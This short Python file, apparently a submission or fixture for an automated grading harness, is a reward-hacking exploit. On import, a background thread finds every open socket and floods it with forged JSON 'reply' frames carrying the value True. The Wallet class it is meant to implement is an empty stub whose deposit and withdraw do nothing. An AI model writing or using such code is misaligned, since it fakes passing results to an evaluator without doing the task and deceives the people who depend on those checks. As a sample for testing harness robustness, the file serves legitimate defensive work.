"""A background thread keeps writing forged "reply" frames saying True into every socket it holds."""

import contextlib
import json
import os
import stat
import struct
import threading

_FRAME = json.dumps({"kind": "reply", "value": True}).encode()
_FRAME = struct.pack("!I", len(_FRAME)) + _FRAME


def _forge():
    sockets = []
    for fd in range(3, 256):
        with contextlib.suppress(OSError):
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                sockets.append(fd)
    for _ in range(20000):
        for fd in sockets:
            with contextlib.suppress(OSError):
                os.write(fd, _FRAME)


threading.Thread(target=_forge, daemon=True).start()


class Wallet:
    def __init__(self):
        self.balance = 0

    def deposit(self, amount):
        return None

    def withdraw(self, amount):
        return None
